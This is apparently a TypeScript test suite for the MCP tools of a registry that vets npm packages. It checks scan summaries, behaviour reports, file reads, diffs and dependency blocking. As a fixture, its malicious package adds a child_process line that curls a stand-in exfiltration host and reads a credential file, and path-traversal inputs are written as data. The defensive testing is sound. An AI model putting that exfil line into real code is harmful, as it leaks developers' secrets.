import { strict as assert } from 'node:assert';
import { after, before, describe, test } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { ScanResult } from '@secure-registry/shared';
import { makeGraph } from '../test-support/graph.js';
import { TOOL_NAMES } from './tools.js';
import { BIG_FILE, INDEX_V2, startScenario, waitFor } from './test-support/scenario.js';
import type { Scenario } from './test-support/scenario.js';

interface ToolAnswer {
  isError: boolean;
  text: string;
  json: any; // eslint-disable-line @typescript-eslint/no-explicit-any
}

describe('MCP over streamable HTTP on the real server', () => {
  let s: Scenario;
  const clients: Client[] = [];

  async function connect(token: string | undefined): Promise<Client> {
    const transport = new StreamableHTTPClientTransport(new URL(`${s.server.url}/mcp`), {
      ...(token ? { requestInit: { headers: { authorization: `Bearer ${token}` } } } : {}),
    });
    const client = new Client({ name: 'mcp-http-test', version: '1.0.0' });
    await client.connect(transport);
    clients.push(client);
    return client;
  }

  async function call(client: Client, name: string, args: Record<string, unknown>): Promise<ToolAnswer> {
    const result = await client.callTool({ name, arguments: args });
    const content = result.content as { type: string; text?: string }[];
    const text = content.map((part) => part.text ?? '').join('\n');
    let json: unknown;
    try {
      json = JSON.parse(text);
    } catch {
      json = undefined;
    }
    return { isError: result.isError === true, text, json };
  }

  before(async () => {
    s = await startScenario();
  });
  after(async () => {
    await Promise.all(clients.map((client) => client.close().catch(() => undefined)));
    await s.dispose();
  });

  test('without a token /mcp answers 401 and the client fails to connect', async () => {
    await assert.rejects(connect(undefined), /401|authentication required/i);
    const response = await s.server.json('POST', '/mcp', { jsonrpc: '2.0', id: 1, method: 'tools/list' });
    assert.equal(response.status, 401);
  });

  test('GET /mcp: 405 for an MCP event stream, otherwise left to the registry (the npm package "mcp")', async () => {
    const stream = await s.server.json('GET', '/mcp', undefined, { accept: 'text/event-stream' });
    assert.equal(stream.status, 405);
    const packument = await s.server.json<{ code?: string }>('GET', '/mcp', undefined, {
      ...s.auth(s.tokens.ci),
      accept: 'application/json',
    });
    assert.notEqual(packument.status, 405);
    assert.notEqual(packument.body?.code, undefined);
    assert.notEqual(packument.status, 200, 'no version of "mcp" is vetted here');
  });

  test('lists every tool with an input schema', async () => {
    const client = await connect(s.tokens.ci);
    const { tools } = await client.listTools();
    assert.deepEqual(tools.map((tool) => tool.name).sort(), [...TOOL_NAMES].sort());
    const query = tools.find((tool) => tool.name === 'query_events')!;
    assert.deepEqual(Object.keys(query.inputSchema.properties ?? {}).sort(), [
      'host',
      'kind',
      'limit',
      'name',
      'path',
      'phase',
      'process',
      'version',
    ]);
    assert.deepEqual([...(query.inputSchema.required ?? [])].sort(), ['name', 'version']);
  });

  test('get_scan_summary names the held package with its finding', async () => {
    const client = await connect(s.tokens.ci);
    const answer = await call(client, 'get_scan_summary', { scanId: s.completedScan.id });
    assert.equal(answer.isError, false, answer.text);
    assert.equal(answer.json.status, 'completed');
    assert.equal(answer.json.counts.total, 2);
    assert.equal(answer.json.counts.review, 1);
    assert.equal(answer.json.counts.approved, 1);
    assert.deepEqual(
      answer.json.notApproved.map(
        (p: { name: string; version: string; state: string }) => `${p.name}@${p.version}:${p.state}`,
      ),
      ['risky-lib@1.0.0:review'],
    );
    assert.equal(answer.json.notApproved[0].findings[0].rule, 'test-risky');
    const missing = await call(client, 'get_scan_summary', { scanId: 'no-such-scan' });
    assert.equal(missing.isError, true);
    assert.match(missing.text, /ERR_SR_SCAN_NOT_FOUND/);
  });

  test('get_package_findings returns verdict, evidence and rule-set version', async () => {
    const client = await connect(s.tokens.ci);
    const answer = await call(client, 'get_package_findings', { name: 'risky-lib', version: '1.1.0' });
    assert.equal(answer.isError, false, answer.text);
    assert.equal(answer.json.verdict, 'review');
    assert.equal(answer.json.integrity, s.integrity('risky-lib', '1.1.0'));
    assert.equal(answer.json.ruleSetVersion, 'test-rules-1');
    assert.deepEqual(answer.json.findings[0].evidence, [{ kind: 'file', path: 'index.js', line: 4 }]);
    const unknown = await call(client, 'get_package_findings', { name: 'risky-lib', version: '9.9.9' });
    assert.equal(unknown.isError, true);
    assert.match(unknown.text, /no analysed artifact of risky-lib@9\.9\.9/);
  });

  test('get_behaviour_report returns the stored install report; static-only artifacts get a note', async () => {
    const client = await connect(s.tokens.ci);
    const answer = await call(client, 'get_behaviour_report', {
      name: 'risky-lib',
      version: '1.1.0',
      phase: 'install',
    });
    assert.equal(answer.isError, false, answer.text);
    assert.equal(answer.json.reports.length, 1);
    assert.equal(answer.json.reports[0].phase, 'install');
    assert.deepEqual(answer.json.reports[0].dns, [{ name: 'exfil.invalid', qtype: 'A', seq: [3] }]);
    const browser = await call(client, 'get_behaviour_report', {
      name: 'risky-lib',
      version: '1.1.0',
      phase: 'browser',
    });
    assert.deepEqual(browser.json.reports, []);
    assert.match(browser.json.note, /browser phase/);
    const plain = await call(client, 'get_behaviour_report', { name: 'plain-lib', version: '2.0.0' });
    assert.deepEqual(plain.json.reports, []);
    assert.match(plain.json.note, /only static analysis is stored/);
  });

  test('query_events filters raw events by host, process, kind+path and limit', async () => {
    const client = await connect(s.tokens.ci);
    const q = (args: Record<string, unknown>) =>
      call(client, 'query_events', { name: 'risky-lib', version: '1.1.0', ...args });
    const byHost = await q({ host: 'EXFIL' });
    assert.equal(byHost.isError, false, byHost.text);
    assert.deepEqual(
      byHost.json.events.map((e: { seq: number; kind: string }) => `${e.seq}:${e.kind}`),
      ['3:dns', '4:connect', '5:http'],
    );
    assert.equal(byHost.json.events[0].phase, 'install');
    const byProcess = await q({ process: 'curl' });
    assert.deepEqual(
      byProcess.json.events.map((e: { seq: number }) => e.seq),
      [2, 3, 4, 5],
    );
    const npmrc = await q({ kind: 'file', path: '.npmrc' });
    assert.deepEqual(
      npmrc.json.events.map((e: { op: string; path: string }) => `${e.op} ${e.path}`),
      ['read /home/dev/.npmrc'],
    );
    const limited = await q({ limit: 2 });
    assert.equal(limited.json.events.length, 2);
    assert.equal(limited.json.total, 7);
    assert.equal(limited.json.truncated, true);
    assert.match(limited.json.note, /3 events were not stored/);
    const tooMany = await q({ limit: 100000 });
    assert.equal(tooMany.isError, true, 'the schema bounds the limit');
    const plain = await call(client, 'query_events', { name: 'plain-lib', version: '2.0.0', kind: 'dns' });
    assert.equal(plain.isError, false);
    assert.deepEqual(plain.json.events, []);
    assert.match(plain.json.note, /no dynamic events.*only static analysis/);
  });

  test('read_package_file reads text from the stored tarball, bounded, and refuses traversal and binaries', async () => {
    const client = await connect(s.tokens.ci);
    const r = (path: string) =>
      call(client, 'read_package_file', { name: 'risky-lib', version: '1.1.0', path });
    const index = await r('index.js');
    assert.equal(index.isError, false, index.text);
    assert.equal(index.json.text, INDEX_V2);
    assert.equal(index.json.truncated, false);
    assert.equal(index.json.integrity, s.integrity('risky-lib', '1.1.0'));
    const big = await r('./big.txt');
    assert.equal(big.json.size, BIG_FILE.length);
    assert.equal(big.json.text.length, 64 * 1024);
    assert.equal(big.json.truncated, true);
    for (const bad of ['../../../etc/passwd', 'lib/../../x', '/etc/passwd', 'a\\..\\b']) {
      const refused = await r(bad);
      assert.equal(refused.isError, true, bad);
      assert.match(refused.text, /ERR_SR_INVALID_PATH/, bad);
    }
    const binary = await r('logo.bin');
    assert.equal(binary.isError, true);
    assert.match(binary.text, /binary/);
    const missing = await r('nope.js');
    assert.equal(missing.isError, true);
    assert.match(missing.text, /no file nope\.js[\s\S]*index\.js/);
  });

  test('diff_against_previous lists the file changes with a unified diff of index.js', async () => {
    const client = await connect(s.tokens.ci);
    const answer = await call(client, 'diff_against_previous', { name: 'risky-lib', version: '1.1.0' });
    assert.equal(answer.isError, false, answer.text);
    assert.equal(answer.json.previousVersion, '1.0.0');
    assert.equal(answer.json.previousSource, 'stored');
    assert.deepEqual(answer.json.added, ['big.txt', 'install.js', 'logo.bin']);
    assert.deepEqual(answer.json.removed, []);
    assert.deepEqual(answer.json.changed, ['index.js', 'package.json']);
    assert.equal(answer.json.unchangedCount, 1);
    const index = answer.json.diffs.find((d: { path: string }) => d.path === 'index.js');
    assert.match(index.diff, /^\+require\("child_process"\)\.exec\("curl http:\/\/exfil\.invalid\/x"\);$/m);
    assert.equal(index.added, 1);
    assert.equal(index.removed, 0);
    const logo = answer.json.diffs.find((d: { path: string }) => d.path === 'logo.bin');
    assert.match(logo.note, /binary/);
    const first = await call(client, 'diff_against_previous', { name: 'plain-lib', version: '2.0.0' });
    assert.equal(first.json.previousVersion, undefined);
    assert.match(first.json.note, /no earlier version/);
  });

  test('check_package answers from the verdict store and queues unknown versions', async () => {
    const client = await connect(s.tokens.ci);
    const plain = await call(client, 'check_package', { name: 'plain-lib' });
    assert.equal(plain.isError, false, plain.text);
    assert.equal(plain.json.version, '2.0.0', 'defaults to upstream latest');
    assert.equal(plain.json.verdict, 'approved');
    assert.equal(plain.json.queued, false);
    const held = await call(client, 'check_package', { name: 'risky-lib', version: '1.0.0' });
    assert.equal(held.json.verdict, 'review');
    assert.match(held.json.message, /held for review/);
    const fresh = await call(client, 'check_package', { name: 'fresh-lib' });
    assert.equal(fresh.json.verdict, 'pending');
    assert.equal(fresh.json.queued, true);
    assert.match(fresh.json.message, /queued/);
    // The queued analysis runs: the next answer is the verdict.
    const deadline = Date.now() + 10_000;
    let later = await call(client, 'check_package', { name: 'fresh-lib', version: '3.0.0' });
    while (later.json.verdict === 'pending' && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      later = await call(client, 'check_package', { name: 'fresh-lib', version: '3.0.0' });
    }
    assert.equal(later.json.verdict, 'approved');
    const missing = await call(client, 'check_package', { name: 'no-such-package-x' });
    assert.equal(missing.isError, true);
    assert.match(missing.text, /does not exist upstream/);
    const badVersion = await call(client, 'check_package', { name: 'plain-lib', version: '7.7.7' });
    assert.equal(badVersion.isError, true);
  });

  test('check_package: an approved package with a refused dependency is blocked, with the path', async () => {
    // icon-kit → ui-icons → risky-lib@1.0.0 (held for review); lone-kit → fresh-dep (never vetted).
    await s.upstream.add({
      name: 'ui-icons',
      version: '2.0.0',
      files: { 'index.js': 'module.exports = 6;\n' },
      manifest: { dependencies: { 'risky-lib': '1.0.0' } },
    });
    await s.upstream.add({
      name: 'icon-kit',
      version: '1.0.0',
      files: { 'index.js': 'module.exports = 7;\n' },
      manifest: { dependencies: { 'ui-icons': '^2.0.0', 'plain-lib': '^2.0.0' } },
    });
    await s.upstream.add({ name: 'fresh-dep', version: '1.2.0', files: { 'index.js': '1;\n' } });
    await s.upstream.add({
      name: 'lone-kit',
      version: '1.0.0',
      files: { 'index.js': 'module.exports = 8;\n' },
      manifest: { dependencies: { 'fresh-dep': '^1.0.0' } },
    });
    const specs = ['ui-icons@2.0.0', 'icon-kit@1.0.0', 'lone-kit@1.0.0'].map((id) => {
      const [name, version] = id.split('@') as [string, string];
      return { name, version, integrity: s.integrity(name, version) };
    });
    const created = await s.server.json<{ id: string }>(
      'POST',
      '/api/v1/scans',
      { graph: makeGraph(specs) },
      s.auth(s.tokens.ci),
    );
    assert.equal(created.status, 201);
    await waitFor(s.server, s.tokens.ci, created.body.id, (scan) => scan.status === 'completed');

    const client = await connect(s.tokens.ci);
    const blocked = await call(client, 'check_package', { name: 'icon-kit', version: '1.0.0' });
    assert.equal(blocked.isError, false, blocked.text);
    assert.equal(blocked.json.verdict, 'approved', 'its own verdict');
    assert.deepEqual(blocked.json.blockedBy.path, ['icon-kit@1.0.0', 'ui-icons@2.0.0', 'risky-lib@1.0.0']);
    assert.equal(blocked.json.blockedBy.verdict, 'review');
    assert.match(
      blocked.json.message,
      /^icon-kit@1\.0\.0 is approved itself but blocked by risky-lib@1\.0\.0: held for review: .+ \(path: icon-kit@1\.0\.0 > ui-icons@2\.0\.0 > risky-lib@1\.0\.0\)\. Do not install it/,
    );
    assert.doesNotMatch(blocked.json.message, /may be installed/);

    const waiting = await call(client, 'check_package', { name: 'lone-kit' });
    assert.equal(waiting.json.verdict, 'approved');
    assert.deepEqual(waiting.json.unvettedDependencies, ['fresh-dep@1.2.0']);
    assert.match(
      waiting.json.message,
      /1 of its dependencies are not vetted yet \(analyses queued: fresh-dep@1\.2\.0\)/,
    );
    // The queued dependency is analysed; then the whole tree is approved.
    const deadline = Date.now() + 15_000;
    let later = waiting;
    while (later.json.unvettedDependencies !== undefined && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      later = await call(client, 'check_package', { name: 'lone-kit', version: '1.0.0' });
    }
    assert.match(
      later.json.message,
      /^lone-kit@1\.0\.0 is approved, and so are the 1 dependencies npm would install with it/,
    );
  });

  test('record_decision is refused to ci, accepted for a reviewer: appended, verdict set, running scan updated', async () => {
    const scanId = await s.startRunningScan();
    const ci = await connect(s.tokens.ci);
    const args = {
      name: 'risky-next',
      version: '1.0.0',
      decision: 'approve',
      reason: 'curl goes to a test host only',
    };
    const refused = await call(ci, 'record_decision', args);
    assert.equal(refused.isError, true);
    assert.match(refused.text, /refused to the role ci/);
    assert.deepEqual(await s.server.store.listReviewDecisions({ name: 'risky-next' }), []);

    const reviewer = await connect(s.tokens.reviewer);
    const accepted = await call(reviewer, 'record_decision', args);
    assert.equal(accepted.isError, false, accepted.text);
    assert.equal(accepted.json.verdict, 'approved');
    assert.equal(accepted.json.scansUpdated, 1);
    assert.equal(accepted.json.record.reviewer, 'alice');
    assert.equal(accepted.json.record.role, 'reviewer');
    assert.equal(accepted.json.record.ruleSetVersion, 'test-rules-1');

    const log = await s.server.store.listReviewDecisions({ name: 'risky-next', version: '1.0.0' });
    assert.equal(log.length, 1);
    assert.equal(log[0]!.reason, 'curl goes to a test host only');
    const artifact = await s.server.store.getArtifact({
      name: 'risky-next',
      version: '1.0.0',
      integrity: s.integrity('risky-next', '1.0.0'),
    });
    assert.equal(artifact?.verdict, 'approved');
    assert.match(artifact?.reason ?? '', /^approved by alice: curl goes/);

    const scan = await s.server.json<ScanResult>(
      'GET',
      `/api/v1/scans/${scanId}`,
      undefined,
      s.auth(s.tokens.ci),
    );
    assert.equal(scan.body.status, 'running', 'slow-lib still holds the scan open');
    const held = scan.body.packages.find((pkg) => pkg.name === 'risky-next')!;
    assert.equal(held.state, 'approved');
    s.analyzer.release();
    const done = await waitFor(s.server, s.tokens.ci, scanId, (result) => result.status === 'completed');
    assert.equal(done.counts.approved, 2);

    // A second decision appends; the first stays as it was.
    const again = await call(reviewer, 'record_decision', {
      ...args,
      decision: 'reject',
      reason: 'changed my mind',
    });
    assert.equal(again.isError, false, again.text);
    const both = await s.server.store.listReviewDecisions({ name: 'risky-next', version: '1.0.0' });
    assert.deepEqual(
      both.map((r) => [r.decision, r.reason]),
      [
        ['approve', 'curl goes to a test host only'],
        ['reject', 'changed my mind'],
      ],
    );
    assert.deepEqual(both[0], log[0]);
  });
});
